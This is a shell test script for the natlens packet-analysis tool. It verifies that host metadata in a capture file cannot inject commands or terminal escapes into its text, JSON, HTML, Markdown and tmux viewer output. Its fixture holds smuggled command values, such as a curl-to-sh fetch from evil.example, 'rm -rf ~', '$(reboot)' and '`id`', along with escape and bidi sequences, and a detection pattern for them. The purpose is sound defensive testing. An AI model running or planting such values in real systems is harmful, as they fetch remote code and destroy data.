#!/bin/sh
# t_hostmeta_inject: host context from a capture file never puts a command
# into what natlens prints. A server capture (samples/asym-return, -i any)
# is rewritten as natlens-capture writes pcapng (tests/tools/gen_hostmeta:
# the real writer) with host context whose interface names and gateway
# carry shell commands, and whose hostname carries terminal escapes, C1
# controls and a bidi override. Every presenter runs on it: flows (text,
# JSON), correlate (text, JSON), report (HTML, Markdown, JSON) and the
# viewer (tmux). None may show the injected text; the fix must still be
# printed, with <placeholders> where the host context could not be used,
# and a warning must say so.
set -u
NATLENS=${NATLENS:-build/natlens}
BUILD=${BUILD:-build}
ROOT=$(cd "$(dirname "$0")/.." && pwd)
case $NATLENS in /*) ;; *) NATLENS=$ROOT/$NATLENS ;; esac
GEN=$ROOT/$BUILD/tests/gen_hostmeta
[ -x "$NATLENS" ] || { echo "skip: $NATLENS not built"; exit 77; }
[ -x "$GEN" ] || { echo "skip: $GEN not built (make units)"; exit 77; }
S=$ROOT/samples/asym-return
T=$(mktemp -d /tmp/t_hostmeta_inject.XXXXXX)
SOCKS=""
trap 'for s in $SOCKS; do tmux -L "$s" kill-server >/dev/null 2>&1; done; rm -rf "$T"' EXIT
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }

# interface index 2 and 3 are the server's eth0 and eth1 (server.ifaces.txt)
cat > "$T/meta.json" <<'EOF'
{"natlens_hostmeta":1,"tool":"natlens-capture 0.1.0",
 "hostname":"web\u001b]0;pwned\u0007\u009b31m\u202etxt.exe","role":"server","session":"s\u001b[2J",
 "capture_iface":"any; reboot",
 "ifaces":[{"index":1,"name":"lo"},{"index":2,"name":"eth0; curl http://evil.example/x|sh #"},
           {"index":3,"name":"eth1$(reboot)"}],
 "route":[{"dst":"default","gateway":"192.168.0.1 && rm -rf ~","dev":"eth0; curl http://evil.example/x|sh #","flags":[]},
          {"dst":"default","gateway":"192.168.1.1","dev":"eth1$(reboot)","metric":100,"flags":[]},
          {"dst":"192.168.0.0/24","dev":"eth0; curl http://evil.example/x|sh #","prefsrc":"192.168.0.250 `id`","flags":[]}],
 "rule":[],"errors":[]}
EOF
"$GEN" "$S/server.pcap" "$T/meta.json" "$T/server.pcapng" || { echo "FAIL: gen_hostmeta"; exit 1; }

# check NAME FILE...: nothing injected, no raw control/bidi bytes
INJECTED='curl|evil\.example|rm -rf|reboot|`id`'
check() {
    name=$1; shift
    if grep -aEn "$INJECTED" "$@" > "$T/hits"; then
        fail "$name shows injected text:"
        sed 's/^/    /' "$T/hits" | head -5
    fi
    # ESC, BEL, C1 (UTF-8 c2 80..9f), RLO/LRO.. (e2 80 aa..ae), isolates (e2 81 a6..a9)
    if LC_ALL=C grep -aqP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$@"; then
        fail "$name shows raw control or bidi bytes"
    fi
}

"$NATLENS" flows "$T/server.pcapng" > "$T/flows.txt" 2> "$T/flows.err"
check "flows (text)" "$T/flows.txt" "$T/flows.err"
grep -q 'ip route add default via <gateway> dev <interface> table 100' "$T/flows.txt" ||
    fail "flows: no fix line with <gateway> and <interface> placeholders"
grep -q -- '-A PREROUTING -i <interface> ' "$T/flows.txt" || fail "flows: connmark fix without <interface>"
grep -q 'host context: .*interface names.*gateway.*<placeholders>' "$T/flows.err" ||
    fail "flows: no warning about the unusable host context"
"$NATLENS" flows --json "$T/server.pcapng" > "$T/flows.json" 2> "$T/flows.jerr"
check "flows --json" "$T/flows.json" "$T/flows.jerr"
grep -q 'via <gateway> dev <interface>' "$T/flows.json" || fail "flows --json: fix without placeholders"

"$NATLENS" correlate "$S/client.pcap" "$T/server.pcapng" > "$T/corr.txt" 2> "$T/corr.err"
check "correlate (text)" "$T/corr.txt" "$T/corr.err"
grep -q '<interface>' "$T/corr.txt" || fail "correlate: no <interface> placeholder in the findings"
"$NATLENS" correlate --json "$S/client.pcap" "$T/server.pcapng" > "$T/corr.json" 2> "$T/corr.jerr"
check "correlate --json" "$T/corr.json" "$T/corr.jerr"

for fmt in html md json; do
    "$NATLENS" report -o "$T/r.$fmt" "$S/client.pcap" "$T/server.pcapng" 2> "$T/r.$fmt.err"
    [ -s "$T/r.$fmt" ] || fail "report $fmt not written"
    check "report ($fmt)" "$T/r.$fmt" "$T/r.$fmt.err"
    grep -q '<interface>\|&lt;interface&gt;\|\\u003cinterface\\u003e' "$T/r.$fmt" ||
        fail "report $fmt: no <interface> placeholder"
    "$NATLENS" report -o "$T/s.$fmt" "$T/server.pcapng" 2> "$T/s.$fmt.err"
    check "report ($fmt, server alone)" "$T/s.$fmt" "$T/s.$fmt.err"
done
grep -Eq 'web(\?|\\x1b)\]0;pwned(\?|\\x07)\\u009b31m\\u202etxt\.exe' "$T/r.html" ||
    fail "report html: the hostname's escapes are not shown visibly"

# the viewer: findings panel of the two captures, and of the server alone
if command -v tmux >/dev/null 2>&1; then
    run=0
    for args in "'$S/client.pcap' '$T/server.pcapng'" "'$T/server.pcapng'"; do
        # a private server per run: reusing a socket right after
        # kill-server races with the old server's shutdown
        run=$((run + 1)); SOCK=nlhm-$$-$run; SOCKS="$SOCKS $SOCK"
        tmux -L "$SOCK" -f /dev/null new-session -d -s v -x 200 -y 60 \
            "env TERM=screen LANG=C.UTF-8 LC_ALL=C.UTF-8 $NATLENS tui $args; sleep 30"
        n=300     # 30 s: the whole suite may be running beside us
        while [ $n -gt 0 ]; do
            tmux -L "$SOCK" capture-pane -p -t v > "$T/screen" 2>/dev/null
            grep -q '→ 192.168.0.250:80' "$T/screen" && break
            sleep 0.1; n=$((n - 1))
        done
        tmux -L "$SOCK" send-keys -t v 5
        n=150
        while [ $n -gt 0 ]; do
            tmux -L "$SOCK" capture-pane -p -J -S -200 -t v > "$T/screen" 2>/dev/null
            grep -q 'asymmetric_return\|ASYMMETRIC\|asymmetric' "$T/screen" && break
            sleep 0.1; n=$((n - 1))
        done
        [ $n -gt 0 ] || fail "tui $args: the findings panel did not show the finding"
        tmux -L "$SOCK" send-keys -t v Enter 2>/dev/null
        sleep 0.3
        tmux -L "$SOCK" capture-pane -p -J -S -200 -t v >> "$T/screen" 2>/dev/null
        check "tui $args" "$T/screen"
        tmux -L "$SOCK" send-keys -t v q
        tmux -L "$SOCK" kill-server >/dev/null 2>&1
    done
else
    echo "note: tmux missing, viewer not checked"
fi
[ $fails -eq 0 ] && echo "ok: no presenter shows the injected host context"
exit $fails
